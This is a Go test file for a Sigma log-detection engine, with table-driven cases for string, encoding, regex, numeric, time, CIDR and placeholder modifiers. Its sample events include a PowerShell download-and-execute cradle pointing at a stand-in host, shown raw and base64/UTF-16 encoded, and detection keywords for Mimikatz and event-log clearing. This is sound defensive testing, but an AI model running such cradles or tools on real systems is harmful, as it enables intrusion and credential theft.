package sigma

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func utf16le(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

// jsonStr quotes s as a JSON string, escaping control bytes.
func jsonStr(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20:
			b.WriteString(`\u00`)
			b.WriteByte("0123456789abcdef"[r>>4])
			b.WriteByte("0123456789abcdef"[r&15])
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

func TestGenericModifiers(t *testing.T) {
	runMatchCases(t, []matchCase{
		{"plain equals, case-insensitive", "sel:\n    Image: 'C:\\Windows\\System32\\whoami.exe'\ncondition: sel", `{"Image":"c:\\windows\\system32\\WHOAMI.EXE"}`, true},
		{"plain equals is whole value", "sel:\n    Image: 'whoami.exe'\ncondition: sel", `{"Image":"C:\\whoami.exe"}`, false},
		{"contains", "sel:\n    CommandLine|contains: 'whoami'\ncondition: sel", `{"CommandLine":"cmd /c WhoAmI /all"}`, true},
		{"contains miss", "sel:\n    CommandLine|contains: 'whoami'\ncondition: sel", `{"CommandLine":"cmd /c dir"}`, false},
		{"startswith", "sel:\n    Image|startswith: 'C:\\Windows\\'\ncondition: sel", `{"Image":"C:\\Windows\\x.exe"}`, true},
		{"startswith miss", "sel:\n    Image|startswith: 'Windows'\ncondition: sel", `{"Image":"C:\\Windows\\x.exe"}`, false},
		{"endswith", "sel:\n    Image|endswith: '\\cmd.exe'\ncondition: sel", `{"Image":"C:\\Windows\\System32\\CMD.EXE"}`, true},
		{"endswith miss", "sel:\n    Image|endswith: '\\cmd.exe'\ncondition: sel", `{"Image":"C:\\cmd.exe.bak"}`, false},
		{"list is OR", "sel:\n    Image|endswith:\n        - '\\a.exe'\n        - '\\b.exe'\ncondition: sel", `{"Image":"C:\\b.exe"}`, true},
		{"all needs every value", "sel:\n    CommandLine|contains|all:\n        - ' -a '\n        - ' -b '\ncondition: sel", `{"CommandLine":"x -b y"}`, false},
		{"all with every value", "sel:\n    CommandLine|contains|all:\n        - '-a'\n        - '-b'\ncondition: sel", `{"CommandLine":"x -b -a y"}`, true},
		{"map is AND", "sel:\n    Image|endswith: '\\cmd.exe'\n    CommandLine|contains: 'whoami'\ncondition: sel", `{"Image":"C:\\cmd.exe","CommandLine":"dir"}`, false},
		{"list of maps is OR", "sel:\n    - Image|endswith: '\\example.exe'\n    - Description|contains: 'Test executable'\ncondition: sel", `{"Image":"C:\\x.exe","Description":"A test executable"}`, true},
		{"exists true", "sel:\n    PasswordLastSet|exists: true\ncondition: sel", `{"PasswordLastSet":""}`, true},
		{"exists true absent", "sel:\n    PasswordLastSet|exists: true\ncondition: sel", `{"Other":"x"}`, false},
		{"exists false", "sel:\n    PasswordLastSet|exists: false\ncondition: sel", `{"Other":"x"}`, true},
		{"exists with null", "sel:\n    PasswordLastSet|exists: true\ncondition: sel", `{"PasswordLastSet":null}`, true},
		{"cased match", "sel:\n    CommandLine|cased: 'Invoke-Mimikatz'\ncondition: sel", `{"CommandLine":"Invoke-Mimikatz"}`, true},
		{"cased miss", "sel:\n    CommandLine|cased: 'Invoke-Mimikatz'\ncondition: sel", `{"CommandLine":"invoke-mimikatz"}`, false},
		{"cased contains", "sel:\n    CommandLine|contains|cased: 'IEX'\ncondition: sel", `{"CommandLine":"powershell iex x"}`, false},
		{"neq string", "sel:\n    User|neq: 'SYSTEM'\ncondition: sel", `{"User":"bob"}`, true},
		{"neq same (case-insensitive)", "sel:\n    User|neq: 'SYSTEM'\ncondition: sel", `{"User":"system"}`, false},
		{"neq number", "sel:\n    LogonType|neq: 3\ncondition: sel", `{"LogonType":10}`, true},
		{"neq list", "sel:\n    LogonType|neq:\n        - 3\n        - 10\ncondition: sel", `{"LogonType":10}`, false},
	}, Options{})
}

func TestStringValues(t *testing.T) {
	runMatchCases(t, []matchCase{
		{"number matches number", "sel:\n    EventID: 4688\ncondition: sel", `{"EventID":4688}`, true},
		{"number matches string", "sel:\n    EventID: 4688\ncondition: sel", `{"EventID":"4688"}`, true},
		{"string matches number", "sel:\n    EventID: '4688'\ncondition: sel", `{"EventID":4688}`, true},
		{"number miss", "sel:\n    EventID: 4688\ncondition: sel", `{"EventID":46881}`, false},
		{"wildcard star", "sel:\n    Image: 'C:\\\\*\\\\cmd.exe'\ncondition: sel", `{"Image":"C:\\Windows\\System32\\cmd.exe"}`, true},
		{"wildcard question", "sel:\n    Image: 'prog?.exe'\ncondition: sel", `{"Image":"progA.exe"}`, true},
		{"wildcard question needs one char", "sel:\n    Image: 'prog?.exe'\ncondition: sel", `{"Image":"prog.exe"}`, false},
		{"escaped star is literal", "sel:\n    CommandLine: 'a\\*b'\ncondition: sel", `{"CommandLine":"a*b"}`, true},
		{"escaped star does not glob", "sel:\n    CommandLine: 'a\\*b'\ncondition: sel", `{"CommandLine":"axxb"}`, false},
		{"escaped backslash before star", "sel:\n    Path: 'C:\\\\*'\ncondition: sel", `{"Path":"C:\\dir"}`, true},
		{"single backslash plain", "sel:\n    Path: 'C:\\dir'\ncondition: sel", `{"Path":"C:\\dir"}`, true},
		{"double backslash is one", "sel:\n    Path: 'C:\\\\dir'\ncondition: sel", `{"Path":"C:\\dir"}`, true},
		{"null matches absent", "sel:\n    EventID: 4738\nfilter:\n    PasswordLastSet: null\ncondition: sel and not filter", `{"EventID":4738}`, false},
		{"null matches json null", "sel:\n    PasswordLastSet: null\ncondition: sel", `{"PasswordLastSet":null}`, true},
		{"null does not match value", "sel:\n    PasswordLastSet: null\ncondition: sel", `{"PasswordLastSet":"x"}`, false},
		{"empty matches empty", "sel:\n    Description: ''\ncondition: sel", `{"Description":""}`, true},
		{"empty does not match absent", "sel:\n    Description: ''\ncondition: sel", `{"Other":""}`, false},
		{"empty does not match text", "sel:\n    Description: ''\ncondition: sel", `{"Description":"x"}`, false},
		{"star matches any value", "sel:\n    Description: '*'\ncondition: sel", `{"Description":""}`, true},
		{"star does not match absent", "sel:\n    Description: '*'\ncondition: sel", `{"Other":""}`, false},
		{"bool value", "sel:\n    Signed: false\ncondition: sel", `{"Signed":"false"}`, true},
		{"array field any element", "sel:\n    Tags|contains: 'evil'\ncondition: sel", `{"Tags":["good","very evil"]}`, true},
		{"nested dotted field", "sel:\n    requestParameters.userName: 'bob'\ncondition: sel", `{"requestParameters":{"userName":"Bob"}}`, true},
		{"flat dotted key wins", "sel:\n    a.b: 'x'\ncondition: sel", `{"a.b":"x","a":{"b":"y"}}`, true},
		{"field name without spaces", "sel:\n    SourceName: 'Real-Time Protection'\ncondition: sel", `{"Source Name":"Real-Time Protection"}`, true},
		{"non-ASCII case folding", "sel:\n    User|contains: 'ÄRGER'\ncondition: sel", `{"User":"großer ärger"}`, true},
		{"keyword list", "keywords:\n    - 'event::clear'\n    - 'event::drop'\ncondition: keywords", `{"a":"x","Payload":"mimikatz # EVENT::drop"}`, true},
		{"keyword list miss", "keywords:\n    - 'event::clear'\ncondition: keywords", `{"a":"event::"}`, false},
		{"keyword all", "keywords:\n    '|all':\n        - 'OabVirtualDirectory'\n        - ' -ExternalUrl '\ncondition: keywords", `{"a":"Set-OabVirtualDirectory","b":"x -ExternalUrl y"}`, true},
		{"keyword all missing one", "keywords:\n    '|all':\n        - 'OabVirtualDirectory'\n        - ' -ExternalUrl '\ncondition: keywords", `{"a":"Set-OabVirtualDirectory"}`, false},
		{"keyword in nested value", "keywords:\n    - 'secret'\ncondition: keywords", `{"a":{"b":["x","top SECRET"]}}`, true},
		{"keyword matches numbers", "keywords:\n    - 4625\ncondition: keywords", `{"EventID":4625}`, true},
	}, Options{})
}

func TestEncodingModifiers(t *testing.T) {
	ps := "IEX (New-Object Net.WebClient).DownloadString('http://x')"
	runMatchCases(t, []matchCase{
		{"windash dash", "sel:\n    CommandLine|contains|windash: ' -enc '\ncondition: sel", `{"CommandLine":"powershell -enc AAA"}`, true},
		{"windash slash", "sel:\n    CommandLine|contains|windash: ' -enc '\ncondition: sel", `{"CommandLine":"powershell /enc AAA"}`, true},
		{"windash en dash", "sel:\n    CommandLine|contains|windash: ' -enc '\ncondition: sel", `{"CommandLine":"powershell ` + "\u2013" + `enc AAA"}`, true},
		{"windash em dash", "sel:\n    CommandLine|windash|contains: ' -enc '\ncondition: sel", `{"CommandLine":"powershell ` + "\u2014" + `enc AAA"}`, true},
		{"windash horizontal bar", "sel:\n    CommandLine|contains|windash: ' -enc '\ncondition: sel", `{"CommandLine":"powershell ` + "\u2015" + `enc AAA"}`, true},
		{"windash leaves inner dash", "sel:\n    CommandLine|contains|windash: 'set-item'\ncondition: sel", `{"CommandLine":"set/item"}`, false},
		{"windash miss", "sel:\n    CommandLine|contains|windash: ' -enc '\ncondition: sel", `{"CommandLine":"powershell +enc AAA"}`, false},
		{"base64", "sel:\n    CommandLine|base64: 'http://'\ncondition: sel", `{"CommandLine":"` + b64("http://") + `"}`, true},
		{"base64 contains", "sel:\n    CommandLine|base64|contains: 'http://'\ncondition: sel", `{"CommandLine":"x ` + b64("http://") + ` y"}`, true},
		{"base64offset 0", "sel:\n    CommandLine|base64offset|contains: 'http://'\ncondition: sel", `{"CommandLine":"` + b64("http://evil") + `"}`, true},
		{"base64offset 1", "sel:\n    CommandLine|base64offset|contains: 'http://'\ncondition: sel", `{"CommandLine":"` + b64("xhttp://evil") + `"}`, true},
		{"base64offset 2", "sel:\n    CommandLine|base64offset|contains: 'http://'\ncondition: sel", `{"CommandLine":"` + b64("xyhttp://evil") + `"}`, true},
		{"base64offset miss", "sel:\n    CommandLine|base64offset|contains: 'http://'\ncondition: sel", `{"CommandLine":"` + b64("ftp://evil") + `"}`, false},
		{"wide base64offset", "sel:\n    CommandLine|wide|base64offset|contains: 'DownloadString'\ncondition: sel", `{"CommandLine":"powershell -enc ` + b64(utf16le(ps)) + `"}`, true},
		{"utf16le base64offset", "sel:\n    CommandLine|utf16le|base64offset|contains: 'Net.WebClient'\ncondition: sel", `{"CommandLine":"` + b64(utf16le(ps)) + `"}`, true},
		{"utf16le raw", "sel:\n    Data|utf16le|contains: 'cmd'\ncondition: sel", `{"Data":` + jsonStr("x"+utf16le("cmd")+"y") + `}`, true},
		{"utf16be raw", "sel:\n    Data|utf16be: 'cm'\ncondition: sel", `{"Data":` + jsonStr("\x00c\x00m") + `}`, true},
		{"utf16 with BOM", "sel:\n    Data|utf16|base64: 'cmd'\ncondition: sel", `{"Data":"` + base64.StdEncoding.EncodeToString([]byte("\xff\xfe"+utf16le("cmd"))) + `"}`, true},
	}, Options{})
}

func TestRegexModifiers(t *testing.T) {
	runMatchCases(t, []matchCase{
		{"re", "sel:\n    CommandLine|re: 'whoami\\s+/all'\ncondition: sel", `{"CommandLine":"cmd /c whoami   /all"}`, true},
		{"re is case-sensitive", "sel:\n    CommandLine|re: 'whoami'\ncondition: sel", `{"CommandLine":"WHOAMI"}`, false},
		{"re i", "sel:\n    CommandLine|re|i: 'whoami'\ncondition: sel", `{"CommandLine":"WHOAMI"}`, true},
		{"re anchors whole text", "sel:\n    CommandLine|re: '^b$'\ncondition: sel", `{"CommandLine":"a\nb\nc"}`, false},
		{"re m", "sel:\n    CommandLine|re|m: '^b$'\ncondition: sel", `{"CommandLine":"a\nb\nc"}`, true},
		{"re dot stops at newline", "sel:\n    CommandLine|re: 'a.b'\ncondition: sel", `{"CommandLine":"a\nb"}`, false},
		{"re s", "sel:\n    CommandLine|re|s: 'a.b'\ncondition: sel", `{"CommandLine":"a\nb"}`, true},
		{"re on number", "sel:\n    EventID|re: '^46[0-9]{2}$'\ncondition: sel", `{"EventID":4688}`, true},
		{"re alternation", "sel:\n    Image|re: '\\\\(cmd|powershell)\\.exe$'\ncondition: sel", `{"Image":"C:\\x\\powershell.exe"}`, true},
		{"re Z translated", "sel:\n    Image|re: 'exe\\Z'\ncondition: sel", `{"Image":"a.exe"}`, true},
	}, Options{})
}

func TestNumericTimeAndIPModifiers(t *testing.T) {
	runMatchCases(t, []matchCase{
		{"gt", "sel:\n    Count|gt: 10\ncondition: sel", `{"Count":11}`, true},
		{"gt equal", "sel:\n    Count|gt: 10\ncondition: sel", `{"Count":10}`, false},
		{"gte", "sel:\n    Count|gte: 10\ncondition: sel", `{"Count":"10"}`, true},
		{"lt", "sel:\n    Count|lt: 10\ncondition: sel", `{"Count":9.5}`, true},
		{"lte", "sel:\n    Count|lte: 10\ncondition: sel", `{"Count":11}`, false},
		{"gt not a number", "sel:\n    Count|gt: 10\ncondition: sel", `{"Count":"many"}`, false},
		{"gt hex", "sel:\n    Count|gt: 10\ncondition: sel", `{"Count":"0x20"}`, true},
		{"minute", "sel:\n    TimeCreated|minute: 24\ncondition: sel", `{"TimeCreated":"2026-04-17T05:24:53.092051Z"}`, true},
		{"hour", "sel:\n    TimeCreated|hour: 5\ncondition: sel", `{"TimeCreated":"2026-04-17T05:24:53.092051Z"}`, true},
		{"hour gte", "sel:\n    TimeCreated|hour|gte: 22\ncondition: sel", `{"TimeCreated":"2026-04-17T05:24:53Z"}`, false},
		{"day", "sel:\n    TimeCreated|day: 17\ncondition: sel", `{"TimeCreated":"2026-04-17 05:24:53.092"}`, true},
		{"week", "sel:\n    TimeCreated|week: 16\ncondition: sel", `{"TimeCreated":"2026-04-17T05:24:53Z"}`, true},
		{"month", "sel:\n    TimeCreated|month: 4\ncondition: sel", `{"TimeCreated":"2026-04-17T05:24:53Z"}`, true},
		{"year", "sel:\n    TimeCreated|year: 2025\ncondition: sel", `{"TimeCreated":"2026-04-17T05:24:53Z"}`, false},
		{"cidr v4", "sel:\n    DestinationIp|cidr: '10.0.0.0/8'\ncondition: sel", `{"DestinationIp":"10.1.2.3"}`, true},
		{"cidr v4 miss", "sel:\n    DestinationIp|cidr: '10.0.0.0/8'\ncondition: sel", `{"DestinationIp":"11.1.2.3"}`, false},
		{"cidr v6", "sel:\n    DestinationIp|cidr: 'fe80::/10'\ncondition: sel", `{"DestinationIp":"fe80::1"}`, true},
		{"cidr v6 miss", "sel:\n    DestinationIp|cidr: 'fe80::/10'\ncondition: sel", `{"DestinationIp":"2001:db8::1"}`, false},
		{"cidr list", "sel:\n    DestinationIp|cidr:\n        - '127.0.0.0/8'\n        - '::1/128'\ncondition: sel", `{"DestinationIp":"::1"}`, true},
		{"cidr mapped v4", "sel:\n    DestinationIp|cidr: '10.0.0.0/8'\ncondition: sel", `{"DestinationIp":"::ffff:10.0.0.1"}`, true},
		{"cidr not an IP", "sel:\n    DestinationIp|cidr: '10.0.0.0/8'\ncondition: sel", `{"DestinationIp":"host"}`, false},
	}, Options{})
}

func TestFieldrefAndExpand(t *testing.T) {
	runMatchCases(t, []matchCase{
		{"fieldref equal", "sel:\n    TargetUserName|fieldref: SubjectUserName\ncondition: sel", `{"TargetUserName":"Bob","SubjectUserName":"bob"}`, true},
		{"fieldref differ", "sel:\n    TargetUserName|fieldref: SubjectUserName\ncondition: sel", `{"TargetUserName":"Bob","SubjectUserName":"alice"}`, false},
		{"fieldref missing other", "sel:\n    TargetUserName|fieldref: SubjectUserName\ncondition: sel", `{"TargetUserName":"Bob"}`, false},
		{"fieldref neq", "sel:\n    TargetUserName|fieldref|neq: SubjectUserName\ncondition: sel", `{"TargetUserName":"Bob","SubjectUserName":"alice"}`, true},
		{"fieldref startswith", "sel:\n    CommandLine|fieldref|startswith: Image\ncondition: sel", `{"CommandLine":"c:\\x.exe -a","Image":"C:\\x.exe"}`, true},
		{"fieldref endswith", "sel:\n    Image|fieldref|endswith: OriginalFileName\ncondition: sel", `{"Image":"c:\\x\\cmd.exe","OriginalFileName":"Cmd.Exe"}`, true},
		{"fieldref contains", "sel:\n    CommandLine|fieldref|contains: User\ncondition: sel", `{"CommandLine":"runas bob","User":"BOB"}`, true},
		{"fieldref cased", "sel:\n    A|fieldref|cased: B\ncondition: sel", `{"A":"x","B":"X"}`, false},
		{"expand", "sel:\n    User|expand: '%Administrators%'\ncondition: sel", `{"User":"adm_bob"}`, true},
		{"expand miss", "sel:\n    User|expand: '%Administrators%'\ncondition: sel", `{"User":"bob"}`, false},
		{"expand inside text", "sel:\n    Computer|expand: 'srv-%Site%-01'\ncondition: sel", `{"Computer":"SRV-lon-01"}`, true},
		{"expand escaped percent", "sel:\n    Path|expand: '\\%plain%Site%'\ncondition: sel", `{"Path":"%plainlon"}`, true},
		{"percent without expand is literal", "sel:\n    User: '%Administrators%'\ncondition: sel", `{"User":"%administrators%"}`, true},
	}, Options{Placeholders: map[string][]string{"Administrators": {"adm_*", "root"}, "Site": {"lon", "par"}}})
}

func TestExpandMissingPlaceholder(t *testing.T) {
	r := testRule(t, "sel:\n    User|expand: '%Unknown%'\ncondition: sel")
	set, err := Compile([]*Rule{r}, Options{})
	if err == nil || !strings.Contains(err.Error(), "%Unknown%") {
		t.Fatalf("err = %v, want a placeholder error", err)
	}
	if len(set.Rules()) != 0 {
		t.Errorf("rule with unknown placeholder compiled")
	}
}

func TestRegexLengthForm(t *testing.T) {
	long := strings.Repeat("a", 1000)
	runMatchCases(t, []matchCase{
		{"dot run long enough", "sel:\n    CommandLine|re: '.{1000,}'\ncondition: sel", `{"CommandLine":"` + long + `"}`, true},
		{"dot run too short", "sel:\n    CommandLine|re: '.{1000,}'\ncondition: sel", `{"CommandLine":"` + long[1:] + `"}`, false},
		{"dot run broken by newline", "sel:\n    CommandLine|re: '.{10,}'\ncondition: sel", `{"CommandLine":"aaaaa\naaaaa"}`, false},
		{"dot run with s flag", "sel:\n    CommandLine|re|s: '.{10,}'\ncondition: sel", `{"CommandLine":"aaaaa\naaaaa"}`, true},
		{"dot run counts characters", "sel:\n    CommandLine|re: '.{4,}'\ncondition: sel", `{"CommandLine":"äöü"}`, false},
	}, Options{})
}
